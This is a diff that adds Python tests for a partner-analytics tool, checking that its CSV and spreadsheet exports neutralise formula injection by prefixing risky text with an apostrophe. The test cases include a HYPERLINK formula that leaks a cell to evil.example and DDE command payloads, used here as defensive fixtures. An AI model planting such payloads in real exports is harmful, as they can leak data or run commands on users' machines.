@@ -24,6 +24,7 @@ import partner_analytics as pa
 from partner_analytics import cli
 from partner_analytics.cli import main
 from partner_analytics.core.schema import TABLES
+from partner_analytics.core.spreadsheet import formula_safe
 from partner_analytics.io import lineage, validation
 from partner_analytics.io.readers import read_table
 from partner_analytics.io.validation import validate_table
@@ -430,6 +431,73 @@ def test_excel_export_writes_text_from_the_inputs_as_text(tmp_path: Path, capsys
         if c.data_type == "f" or c.hyperlink is not None
     ]
     assert formulas == []
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ('=HYPERLINK("http://evil.example/?leak="&A1;"open")', '\'=HYPERLINK("http://evil.example/?leak="&A1;"open")'),
+        ("=1+1", "'=1+1"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1,1)", "'@SUM(1,1)"),
+        ("-12.50", "-12.50"),  # a plain number, not a formula: as read
+        ("http://evil.example/x", "http://evil.example/x"),
+    ],
+    ids=["hyperlink", "sum", "dde", "minus", "at", "negative", "url"],
+)
+def test_csv_exports_write_text_that_starts_like_a_formula_as_text(
+    tmp_path: Path, capsys, monkeypatch, value: str, written: str
+) -> None:
+    """The tables export and --rejected-out: the rejected value and the reason quoting it (text columns)."""
+    quoted = '"' + value.replace('"', '""') + '"'
+    folder = write_engagement(
+        tmp_path / "eng", {"contacts.csv": CONTACTS_CSV + f"c4,northcall,{quoted},2026-09-01 10:00:00,true,1,1,,\n"}
+    )
+    assert main(["tables", "--engagement", str(folder), "--out", str(tmp_path / "out"), "--format", "csv"]) == 0
+    _check_output(folder, capsys, monkeypatch, "--rejected-out", str(tmp_path / "rejected.csv"))
+    for path in (tmp_path / "out" / "rejected.csv", tmp_path / "rejected.csv"):
+        rejected = pl.read_csv(path, infer_schema=False)
+        assert rejected["row"].to_list() == ["5"] and rejected["value"].to_list() == [written]
+        assert rejected["reason"].item().startswith(f"unknown channel '{value}'"), "the reason starts with a word"
+
+
+def test_csv_export_leaves_numbers_as_numbers(tmp_path: Path) -> None:
+    """A negative amount (integer cents) is written -12.50 and a negative float as is: only text is protected."""
+    tables = {
+        "statement": pl.DataFrame({"partner_id": ["=evil", "northcall"], "net": [-1250, 72420200]}),
+        "results": pl.DataFrame({"kpi": ["-asa"], "value": [-0.5]}),
+    }
+    pa.io.export_tables(tables, tmp_path, "csv", {})
+    assert (tmp_path / "statement.csv").read_text() == "partner_id,net\n'=evil,-12.50\nnorthcall,724202.00\n"
+    assert (tmp_path / "results.csv").read_text() == "kpi,value\n'-asa,-0.5\n"
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("@x", "'@x"),
+        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),  # a space is a spreadsheet operator
+        ("+1,234.5", "+1,234.5"),  # a plain number
+        ("+1e5", "+1e5"),
+        ("-.5", "-.5"),
+        ("-", "'-"),
+        ("a=1", "a=1"),
+        (" =1", " =1"),  # a leading space: a spreadsheet reads it as text
+        (None, None),
+    ],
+)
+def test_formula_safe_text(text: str | None, safe: str | None) -> None:
+    frame = pl.DataFrame({"text": [text], "number": [-3]}, schema={"text": pl.String, "number": pl.Int64})
+    assert formula_safe(frame).rows() == [(safe, -3)]
+
+
+def test_formula_safe_covers_categorical_text() -> None:
+    frame = pl.DataFrame({"c": ["=1", "ok"]}, schema={"c": pl.Categorical})
+    assert formula_safe(frame)["c"].to_list() == ["'=1", "ok"]
 
 
 # --- what used to end in a traceback ------------------------------------------------------------
